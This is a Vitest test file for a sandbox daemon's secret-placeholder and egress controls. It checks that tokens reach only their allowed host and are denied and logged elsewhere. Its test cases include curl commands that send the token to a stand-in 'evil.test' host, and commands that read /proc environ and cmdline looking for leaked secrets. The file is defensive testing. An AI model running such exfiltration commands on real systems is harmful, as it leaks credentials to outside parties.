// A secret that a sandbox holds only a placeholder of: real tools reach its host with the value, and nothing in the sandbox,
// in the daemon's records or on the host shows it; sent anywhere else the placeholder is denied and told of.

import { readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Cloister, ExecResult, Sandbox } from '../../client/index.ts';
import { startTestNames, type TestNames } from '../support/egress-names.ts';
import { startTestOrigin, type TestOrigin } from '../support/egress-origins.ts';
import { makeTestPackages, type TestPackages } from '../support/egress-packages.ts';
import { startTestDaemon, type TestDaemon } from '../support/test-daemon.ts';

const ADDRESS = '127.81.8.1';
const HOST = 'api.test';
const OTHER = 'other.test';
const VALUE = 'tok-8c1f09e7ab42-value';

let packages: TestPackages;
let origin: TestOrigin;
let names: TestNames;
let daemon: TestDaemon;
let client: Cloister;
let sandbox: Sandbox;

beforeAll(async () => {
  packages = await makeTestPackages(HOST);
  origin = await startTestOrigin({ address: ADDRESS, names: [HOST, OTHER], listener: packages.listener });
  names = await startTestNames({ [HOST]: [ADDRESS], [OTHER]: [ADDRESS] });
  const upstreamCa = join(packages.directory, 'upstream.pem');
  await writeFile(upstreamCa, origin.authority);
  daemon = await startTestDaemon({ config: { egress: { resolver: names.address, allowPrivate: [ADDRESS], upstreamCa } } });
  client = await daemon.connect('acme');
  sandbox = await client.open({
    session: 'secrets',
    profile: 'workspace-write',
    egress: { allow: [HOST, OTHER] },
    secrets: { API_TOKEN: { value: VALUE, hosts: [HOST], as: 'header' } },
  });
});
afterAll(async () => {
  await daemon[Symbol.asyncDispose]();
  await origin[Symbol.asyncDispose]();
  await names[Symbol.asyncDispose]();
  await packages[Symbol.asyncDispose]();
});

const codes = (result: ExecResult): string[] => result.notes.map(({ code }) => code);
const basic = (text: string): string => `Basic ${Buffer.from(text).toString('base64')}`;

describe('a tool reaches the host of the secret with its value', () => {
  test.each<[string, string, string, string]>([
    ['curl', `curl -sS -H "Authorization: Bearer $API_TOKEN" https://${HOST}/tool`, `hello from ${HOST}/tool`, `Bearer ${VALUE}`],
    ['curl by name and password', `curl -sS -u "user:$API_TOKEN" https://${HOST}/tool`, `hello from ${HOST}/tool`, basic(`user:${VALUE}`)],
    [
      'python',
      `python3 -c "import os, urllib.request as u; r = u.Request('https://${HOST}/simple/tiny/', headers={'Authorization': 'Bearer ' + os.environ['API_TOKEN']}); print(u.urlopen(r).read().decode())"`,
      'tiny-1.0-py3-none-any.whl',
      `Bearer ${VALUE}`,
    ],
    [
      'node fetch',
      `node -e "fetch('https://${HOST}/tool', { headers: { authorization: 'Bearer ' + process.env.API_TOKEN } }).then(r => r.text()).then(console.log)"`,
      `hello from ${HOST}/tool`,
      `Bearer ${VALUE}`,
    ],
    [
      'git',
      `git -c http.extraHeader="Authorization: Bearer $API_TOKEN" clone -q https://${HOST}/repo.git cloned && git -C cloned log --format=%s`,
      'first',
      `Bearer ${VALUE}`,
    ],
    [
      'npm',
      `mkdir -p app && cd app && echo "//${HOST}/npm/:_authToken=$API_TOKEN" > .npmrc && npm install --silent --no-audit --no-fund --no-update-notifier --registry https://${HOST}/npm/ tiny && node -p "require('tiny')"`,
      '42',
      `Bearer ${VALUE}`,
    ],
    [
      'pip',
      `python3 -m pip download -q --disable-pip-version-check --no-deps --index-url https://user:$API_TOKEN@${HOST}/simple tiny && ls tiny-*`,
      'tiny-1.0-py3-none-any.whl',
      '',
    ],
  ])('%s', async (_, command, said, authorization) => {
    origin.seen.length = 0;
    const result = await sandbox.exec(`rm -rf cloned; ${command}`);
    expect(result.stdout + result.stderr).toContain(said);
    if (authorization !== '') expect(origin.seen.map(({ headers }) => headers.authorization)).toContain(authorization);
    expect(result.egress.filter(({ verdict }) => verdict === 'deny')).toEqual([]);
    expect(result.egress[0]).toMatchObject({ host: HOST, port: 443, method: 'GET', execId: result.id });
  });

  test('and other hosts as if there were no secret', async () => {
    await sandbox.files.write('other.pem', origin.authority);
    const result = await sandbox.exec(`curl -sS -v --cacert other.pem https://${OTHER}/plain 2>&1`);
    expect(result.stdout).toContain('issuer: CN=test origin');
    expect((await sandbox.exec(`curl -sS -v https://${HOST}/plain 2>&1`)).stdout).toContain('issuer: CN=Cloister egress authority');
  });

  test('over SOCKS as well', async () => {
    await sandbox.exec(`curl -sS --proxy socks5h://127.0.0.1:3128 -H "Authorization: Bearer $API_TOKEN" https://${HOST}/socks`);
    expect(origin.seen.find(({ path }) => path === '/socks')?.headers.authorization).toBe(`Bearer ${VALUE}`);
  });

  test('with a body of any size in both directions', async () => {
    const result = await sandbox.exec(
      `head -c 20000000 /dev/zero | curl -sS -H "X-Key: $API_TOKEN" -H 'Expect:' -T - https://${HOST}/upload -o /dev/null -w '%{http_code}'`,
    );
    expect(result.stdout).toBe('404');
    expect(origin.seen.at(-1)?.body.length).toBe(20_000_000);
  });
});

describe('a placeholder goes nowhere else', () => {
  test.each<[string, string]>([
    ['in the clear to its own host', `curl -sS -H "X: $API_TOKEN" http://${HOST}/stray`],
    ['in the clear to another host', `curl -sS -H "X: $API_TOKEN" http://${OTHER}/stray`],
    ['in a URL', `curl -sS "http://${OTHER}/stray?key=$API_TOKEN"`],
    ['as credentials', `curl -sS -u "user:$API_TOKEN" http://${OTHER}/stray`],
    ['to a host that is not allowed', `curl -sS -H "X: $API_TOKEN" http://evil.test/stray`],
  ])('%s', async (_, command) => {
    const result = await sandbox.exec(command);
    expect(result.stdout).toContain('reason: secretMisdirected');
    expect(result.egress).toMatchObject([{ verdict: 'deny', reason: 'secretMisdirected', rule: 'builtin:secret:API_TOKEN' }]);
    expect(codes(result)).toContain('egressDenied');
    expect(origin.seen.filter(({ path }) => path.startsWith('/stray'))).toEqual([]);
    const alerts = (await audit()).filter(({ kind, execId }) => kind === 'alert' && execId === result.id);
    expect(alerts).toMatchObject([{ what: 'secretMisdirected', rule: 'builtin:secret:API_TOKEN', sandboxId: sandbox.id }]);
  });

  test('inside of TLS that is not opened it is no more than a placeholder', async () => {
    await sandbox.exec(`curl -sS --cacert other.pem -H "X: $API_TOKEN" https://${OTHER}/inside`);
    const { headers } = origin.seen.find(({ path }) => path === '/inside')!;
    expect(headers['x']).toMatch(/^cloister-secret-/);
  });
});

test('the value is in no file, process, record, log or inspection', async () => {
  const running = sandbox.exec(`while :; do curl -s -o /dev/null -H "Authorization: Bearer $API_TOKEN" https://${HOST}/loop; done`);
  const inside = await sandbox.exec(
    `env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'; grep -rs 'tok-8c1f09e7ab42' /workspace /tmp /run /etc 2>/dev/null; curl -sS -H "X: $API_TOKEN" https://${HOST}/echo`,
  );
  await running.kill();
  const result = await running;
  const inspected = await Promise.all((await daemon.containers()).map(async (id) => JSON.stringify(await daemon.driver.inspect(id))));
  const texts = [
    inside.stdout,
    inside.stderr,
    JSON.stringify(result),
    JSON.stringify(await audit()),
    ...inspected,
    ...(await stateFiles(daemon.stateDir)),
  ];
  for (const text of texts) expect(text.includes(VALUE) || text.includes(Buffer.from(VALUE).toString('base64'))).toBe(false);
  expect(inside.stdout).toContain('API_TOKEN=cloister-secret-');
});

test('the authority that sandboxes trust is readable in them, its key nowhere', async () => {
  const { stdout } = await sandbox.exec(
    'cat $NODE_EXTRA_CA_CERTS | head -1; grep -c BEGIN $SSL_CERT_FILE; touch $SSL_CERT_FILE 2>&1; grep -rls "PRIVATE KEY" /run/cloister /etc/ssl 2>/dev/null | wc -l; findmnt -no OPTIONS -T /run/cloister 2>/dev/null || grep " /run/cloister " /proc/mounts',
  );
  const [first, count, touched, keys, options] = stdout.split('\n');
  expect(first).toBe('-----BEGIN CERTIFICATE-----');
  expect(Number(count)).toBeGreaterThan(50);
  expect(touched).toMatch(/Read-only file system|Permission denied/);
  expect(keys).toBe('0');
  for (const flag of ['ro', 'nosuid', 'nodev']) expect(options).toMatch(new RegExp(`\\b${flag}\\b`));
});

test('a session without such a secret knows nothing of the authority', async () => {
  const plain = await client.open({
    session: 'plain',
    profile: 'workspace-write',
    workspace: { retain: 'delete' },
    egress: { allow: [HOST] },
  });
  expect((await plain.exec('env | grep -c CERT; ls /run/cloister/egress-bundle.pem 2>&1')).stdout).toMatch(/^0\n.*No such file/);
  await plain.secrets.set('LATE', { value: VALUE, hosts: [HOST], as: 'header' });
  expect((await plain.exec(`curl -sS -H "X: $LATE" https://${HOST}/late`)).stdout).toContain('hello from');
  expect(origin.seen.find(({ path }) => path === '/late')?.headers['x']).toBe(VALUE);
  await plain.close();
});

async function audit(): Promise<Record<string, unknown>[]> {
  const text = await readFile(join(daemon.stateDir, 'audit.jsonl'), 'utf8');
  return text
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as Record<string, unknown>);
}

/** What lies in the state directory beside workspaces, as text. */
async function stateFiles(directory: string): Promise<string[]> {
  const entries = await readdir(directory, { recursive: true, withFileTypes: true });
  const files = entries.filter(
    (entry) => entry.isFile() && !/\/(ws|pool|workspaces)/.test(entry.parentPath) && !entry.name.endsWith('.btrfs'),
  );
  return Promise.all(files.map((entry) => readFile(join(entry.parentPath, entry.name), 'latin1').catch(() => '')));
}
